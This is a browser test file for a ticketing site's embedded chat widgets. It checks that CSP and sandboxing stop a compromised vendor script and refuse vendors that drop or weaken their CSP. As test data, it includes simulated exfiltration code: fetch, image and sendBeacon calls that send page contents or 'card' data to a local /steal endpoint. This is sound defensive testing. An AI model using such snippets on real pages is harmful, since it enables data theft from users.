/**
 * Widgets in a real Chromium: the demo chat in its sandboxed frame under CSP Embedded
 * Enforcement, the page's widget host (the built `widget-host` chunk), a compromised vendor script,
 * and vendors that drop or weaken their CSP. The host page is a small server of the test's own
 * with a strict CSP and Trusted Types, so this runs without a database.
 */
import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import Fastify, { type FastifyInstance } from 'fastify';
import type { Browser, Page } from 'playwright-core';
import type { WidgetConfig } from '../../src/config.js';
import { buildDemoChatServer, type DemoChatServer } from '../../src/widgets/demo-chat/demo-chat.server.js';
import { widgetFramesHtml } from '../../src/widgets/widget-frames.js';
import { freePort } from '../helpers/net.js';
import { CHROMIUM, launchBrowser, withPage } from './harness.js';

const dist = join(process.cwd(), 'web', 'dist');

/** The built widget host (script and stylesheet), found through Vite's manifest. */
function widgetHostBuild(): { js: string; css: string } | undefined {
  const manifest = join(dist, '.vite', 'manifest.json');
  if (!existsSync(manifest)) return undefined;
  const chunks = Object.values(JSON.parse(readFileSync(manifest, 'utf8')) as Record<string, { file: string; name?: string; css?: string[] }>);
  const host = chunks.find((c) => c.name === 'widget-host' && c.file.endsWith('.js'));
  if (!host?.css?.[0]) return undefined;
  return { js: readFileSync(join(dist, host.file), 'utf8'), css: readFileSync(join(dist, host.css[0]), 'utf8') };
}

const build = existsSync(CHROMIUM) ? widgetHostBuild() : undefined;
const skip = !existsSync(CHROMIUM)
  ? `no Chromium at ${CHROMIUM}`
  : !build
    ? 'the front end is not built with its widget host: run `npm run build:web`'
    : undefined;

const ROGUE_PAGE = `<!doctype html><html><body><button type="button" id="launcher">Chat with us</button><script src="/rogue.js"></script></body></html>`;

describe('browser widgets', { skip }, () => {
  let browser: Browser;
  let chat: DemoChatServer;
  let host: FastifyInstance;
  let rogue: FastifyInstance;
  let hostOrigin: string;
  let chatOrigin: string;
  let rogueOrigin: string;
  const stolen: string[] = [];
  const rogueScripts: string[] = [];

  const widget = (origin: string, path: string): WidgetConfig => ({
    name: 'chat',
    url: `${origin}${path}`,
    origin,
    classes: ['buyer'],
    title: 'Support chat',
    connect: [],
  });

  before(async () => {
    const [hostPort, chatPort, roguePort] = [await freePort(), await freePort(), await freePort()];
    [hostOrigin, chatOrigin, rogueOrigin] = [hostPort, chatPort, roguePort].map((p) => `http://127.0.0.1:${p}`) as [string, string, string];

    chat = buildDemoChatServer({ appOrigins: [hostOrigin] });
    host = Fastify();
    // Like the buyer pages: scripts only from here, Trusted Types required, frames only from the widget origins.
    const csp = `default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; frame-src ${chatOrigin} ${rogueOrigin}; require-trusted-types-for 'script'; trusted-types 'none'; base-uri 'none'`;
    host.get<{ Querystring: { vendor?: string } }>('/', async (request, reply) => {
      const vendor = request.query.vendor;
      const frames = widgetFramesHtml([vendor ? widget(rogueOrigin, `/${vendor}`) : widget(chatOrigin, '/chat')]);
      const html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Host</title><link rel="stylesheet" href="/host.css"><script type="module" src="/host.js"></script></head><body><h1>Tickets</h1>${frames}</body></html>`;
      return reply.header('content-security-policy', csp).type('text/html').send(html);
    });
    host.get('/host.js', async (_request, reply) => reply.type('text/javascript').send(build!.js));
    host.get('/host.css', async (_request, reply) => reply.type('text/css').send(build!.css));
    host.all('/steal', async (request) => {
      stolen.push(`${request.method} ${request.url}`);
      return {};
    });

    rogue = Fastify();
    rogue.get('/no-csp', async (_request, reply) => reply.type('text/html').send(ROGUE_PAGE));
    rogue.get('/weak-csp', async (_request, reply) =>
      reply.header('content-security-policy', "default-src 'none'; script-src 'self'; connect-src *").type('text/html').send(ROGUE_PAGE),
    );
    rogue.get('/rogue.js', async (request, reply) => {
      rogueScripts.push(request.url);
      return reply.type('text/javascript').send(`fetch('${hostOrigin}/steal?rogue', { method: 'POST', body: document.body.innerHTML });`);
    });

    await Promise.all([
      host.listen({ port: hostPort, host: '127.0.0.1' }),
      chat.listen({ port: chatPort, host: '127.0.0.1' }),
      rogue.listen({ port: roguePort, host: '127.0.0.1' }),
    ]);
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await Promise.all([host?.close(), chat?.close(), rogue?.close()]);
  });

  const frameClass = (page: Page) => page.locator('iframe.tq-widget').getAttribute('class');

  test('browser: the chat runs in an opaque-origin frame, opens and closes its frame, and answers; the page takes nothing else', {
    timeout: 30_000,
  }, async () => {
    chat.setScript(null);
    await withPage(browser, async ({ page, problems }) => {
      await page.goto(hostOrigin);
      const frame = page.frameLocator('iframe.tq-widget');
      await frame.getByRole('button', { name: 'Chat with us' }).click();
      await page.locator('iframe.tq-widget.tq-widget--open').waitFor();
      const box = await page.locator('iframe.tq-widget').boundingBox();
      assert.deepEqual([box?.width, box?.height], [340, 460]);

      const chatFrame = page.frames().find((f) => f.url().startsWith(chatOrigin))!;
      assert.equal(await chatFrame.evaluate('self.origin'), 'null', 'sandboxed without allow-same-origin');
      await frame.getByLabel('Your message').fill('Where are my tickets?');
      await frame.getByLabel('Your message').press('Enter');
      await frame.getByText('This is a demo chat').waitFor();

      // The page itself, or anything but the widget's frame, cannot drive the frame's size.
      await page.evaluate("window.postMessage({ type: 'taquilla-widget', action: 'close' }, '*')");
      await page.waitForTimeout(200);
      assert.match((await frameClass(page)) ?? '', /tq-widget--open/);

      await frame.getByRole('button', { name: 'Close the chat' }).click();
      await page.locator('iframe.tq-widget:not(.tq-widget--open)').waitFor();
      assert.deepEqual(problems, []);
    });
  });

  test('browser: a compromised chat script cannot send anything to another origin, nor navigate the page', { timeout: 30_000 }, async () => {
    stolen.length = 0;
    chat.setScript(`
      fetch('${hostOrigin}/steal?fetch', { method: 'POST', body: 'card' }).catch(function () {});
      new Image().src = '${hostOrigin}/steal?image';
      navigator.sendBeacon('${hostOrigin}/steal?beacon', 'card');
      try { top.location.href = '${hostOrigin}/steal?navigate'; } catch (e) {}
      parent.postMessage({ type: 'taquilla-widget', action: 'open' }, '*');
    `);
    try {
      await withPage(browser, async ({ page, problems }) => {
        await page.goto(hostOrigin);
        await page.locator('iframe.tq-widget.tq-widget--open').waitFor();
        await page.waitForTimeout(500);
        assert.equal(page.url(), `${hostOrigin}/`);
        assert.deepEqual(stolen, []);
        assert.ok(
          problems.some((p) => /connect-src/.test(p)),
          `the fetch was refused by CSP: ${problems.join('; ')}`,
        );
      });
    } finally {
      chat.setScript(null);
    }
  });

  test('browser: a vendor that drops its CSP, or weakens it, is not displayed at all (fail closed)', { timeout: 30_000 }, async () => {
    stolen.length = 0;
    for (const vendor of ['no-csp', 'weak-csp']) {
      rogueScripts.length = 0;
      await withPage(browser, async ({ page }) => {
        await page.goto(`${hostOrigin}/?vendor=${vendor}`);
        await page.waitForTimeout(700);
        const frame = page.frames().find((f) => f !== page.mainFrame());
        const launcher = frame ? await frame.locator('#launcher').count() : 0;
        assert.equal(launcher, 0, `${vendor}: the vendor's page is refused`);
        assert.deepEqual(rogueScripts, [], `${vendor}: its script never loads`);
      });
    }
    assert.deepEqual(stolen, []);
  });
});
